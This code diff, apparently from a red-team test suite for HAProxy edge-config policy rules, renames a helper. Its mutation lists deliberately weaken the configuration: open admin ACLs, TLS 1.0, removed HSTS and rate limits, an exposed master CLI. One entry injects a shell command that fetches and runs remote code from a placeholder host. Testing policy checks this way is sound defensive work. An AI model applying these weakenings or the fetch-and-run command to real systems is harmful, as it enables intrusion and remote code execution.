@@ -16,7 +16,7 @@ EDGE_CONTAINER = ("spec", "template", "spec", "containers", 0)
 HTTPS_FRONTEND = "frontend public_https\n"
 
 
-def _edit(change: Callable[[str], str]) -> Callable[[Export], str | None]:
+def edit_cfg(change: Callable[[str], str]) -> Callable[[Export], str | None]:
     """Rewrites the HAProxy configuration in the edge ConfigMap (inputs and outputs alike)."""
 
     def apply(export: Export) -> str | None:
@@ -93,22 +93,22 @@ SECRET_USERLIST = {"name": "extra", "secret": {"secretName": "haproxy-admin", "i
     {"key": "userlist.cfg", "path": "userlist.cfg"}]}}
 
 OPERATORS: list[Mutation] = [
-    Mutation("edge-admin-protected-allow-first", "edge-admin-protected", _edit(_in_https("http-request allow"))),
+    Mutation("edge-admin-protected-allow-first", "edge-admin-protected", edit_cfg(_in_https("http-request allow"))),
     Mutation("edge-admin-protected-world-internal", "edge-admin-protected",
-             _edit(lambda t: re.sub(r"acl internal_client src [^\n]*", "acl internal_client src 0.0.0.0/1 128.0.0.0/1", t))),
+             edit_cfg(lambda t: re.sub(r"acl internal_client src [^\n]*", "acl internal_client src 0.0.0.0/1 128.0.0.0/1", t))),
     Mutation("edge-health-not-public-deny-off", "edge-health-not-public",
-             _edit(lambda t: t.replace("if protected_path !internal_client", "if protected_path !internal_client FALSE"))),
+             edit_cfg(lambda t: t.replace("if protected_path !internal_client", "if protected_path !internal_client FALSE"))),
     Mutation("edge-tls-min-version-tls10", "edge-tls-min-version",
-             _edit(lambda t: t.replace("ssl-min-ver TLSv1.2", "ssl-min-ver TLSv1.0"))),
+             edit_cfg(lambda t: t.replace("ssl-min-ver TLSv1.2", "ssl-min-ver TLSv1.0"))),
     Mutation("edge-security-headers-hsts-deleted", "edge-security-headers",
-             _edit(_drop('set-header Strict-Transport-Security'))),
+             edit_cfg(_drop('set-header Strict-Transport-Security'))),
     Mutation("edge-security-headers-server-kept", "edge-security-headers",
-             _edit(_drop("del-header Server"))),
+             edit_cfg(_drop("del-header Server"))),
     Mutation("edge-rate-limit-never-triggers", "edge-rate-limit",
-             _edit(lambda t: t.replace("sc_http_req_rate(0) gt 100", "sc_http_req_rate(0) gt 100000000"))),
-    Mutation("edge-rate-limit-untracked", "edge-rate-limit", _edit(_drop("track-sc0 src"))),
+             edit_cfg(lambda t: t.replace("sc_http_req_rate(0) gt 100", "sc_http_req_rate(0) gt 100000000"))),
+    Mutation("edge-rate-limit-untracked", "edge-rate-limit", edit_cfg(_drop("track-sc0 src"))),
     Mutation("edge-https-only-plaintext-forward", "edge-https-only",
-             _edit(lambda t: t.replace("    http-request redirect scheme https code 301\n", "    default_backend app\n", 1))),
+             edit_cfg(lambda t: t.replace("    http-request redirect scheme https code 301\n", "    default_backend app\n", 1))),
     # Every file HAProxy loads must be the evaluated ConfigMap: a second file, in every spelling.
     Mutation("edge-config-evaluated-secret-file", "edge-config-evaluated",
              _edge_container(_then(_extra_volume("/etc/haproxy/auth", SECRET_USERLIST),
@@ -129,10 +129,10 @@ OPERATORS: list[Mutation] = [
     Mutation("edge-config-evaluated-double-dash", "edge-config-evaluated",
              _edge_container(_argv("--", "/etc/haproxy/extra.cfg")), message="after `--`"),
     Mutation("edge-config-evaluated-env-bind", "edge-config-evaluated",
-             _on_edge(_edit(lambda t: t.replace("    bind *:8080\n", '    bind "${EXTRA_BIND}"\n', 1))),
+             _on_edge(edit_cfg(lambda t: t.replace("    bind *:8080\n", '    bind "${EXTRA_BIND}"\n', 1))),
              message="${EXTRA_BIND}"),
     Mutation("edge-config-evaluated-conditional-deny", "edge-config-evaluated",
-             _on_edge(_edit(lambda t: re.sub(r"( +)(http-request deny deny_status 403 if protected_path !internal_client\n)",
+             _on_edge(edit_cfg(lambda t: re.sub(r"( +)(http-request deny deny_status 403 if protected_path !internal_client\n)",
                                              r"\1.if !defined(OPEN_EDGE)\n\1\2\1.endif\n", t, count=1))),
              message="conditional block"),
     Mutation("edge-config-evaluated-shell-wrapper", "edge-config-evaluated",
@@ -180,7 +180,7 @@ def _chain(*changes: Callable[[str], str]) -> Callable[[str], str]:
 
 
 def _cfg(name: str, rule: str, change: Callable[[str], str], message: str) -> Mutation:
-    return Mutation(name, rule, _edit(change), PROD, message)
+    return Mutation(name, rule, edit_cfg(change), PROD, message)
 
 
 def _as_binary_data(change: Callable[[str], str]) -> Callable[[Export], str | None]:
@@ -406,7 +406,7 @@ RED_TEAM: list[Mutation] = [
     _cfg("edge-rate-track-some-paths", RATE, _sub(TRACK, TRACK + " if { path_beg /static }"), "429"),
     # every file loaded
     Mutation("edge-evaluated-env-in-acl", EVALUATED,
-             _on_edge(_edit(_re(r"acl internal_client src [^\n]*", 'acl internal_client src "${TRUSTED_RANGES}"'))),
+             _on_edge(edit_cfg(_re(r"acl internal_client src [^\n]*", 'acl internal_client src "${TRUSTED_RANGES}"'))),
              PROD, "TRUSTED_RANGES"),
     _container("edge-evaluated-cfgfiles-from-configmap", "HAPROXY_CFGFILES",
                lambda c, pod: c.setdefault("env", []).append(
@@ -429,9 +429,9 @@ RED_TEAM: list[Mutation] = [
     Mutation("edge-evaluated-other-key-as-haproxy-cfg", EVALUATED, _override_key, PROD, "override.cfg"),
     Mutation("edge-admin-binary-data", ADMIN, _as_binary_data(_in_https("http-request allow")), PROD, "allow"),
     Mutation("edge-evaluated-lua-load", EVALUATED,
-             _on_edge(_edit(_sub("global\n", "global\n    lua-load /tmp/edge.lua\n"))), PROD, "lua-load"),
+             _on_edge(edit_cfg(_sub("global\n", "global\n    lua-load /tmp/edge.lua\n"))), PROD, "lua-load"),
     Mutation("edge-evaluated-program", EVALUATED,
-             _on_edge(_edit(_append("program sync\n    command /bin/sh -c \"wget -qO- http://x/y | sh\"\n"))), PROD,
+             _on_edge(edit_cfg(_append("program sync\n    command /bin/sh -c \"wget -qO- http://x/y | sh\"\n"))), PROD,
              "program"),
     Mutation("edge-evaluated-master-cli", EVALUATED, _edge_container(_argv("-S", "ipv4@0.0.0.0:9999")), PROD, "-S"),
 ]
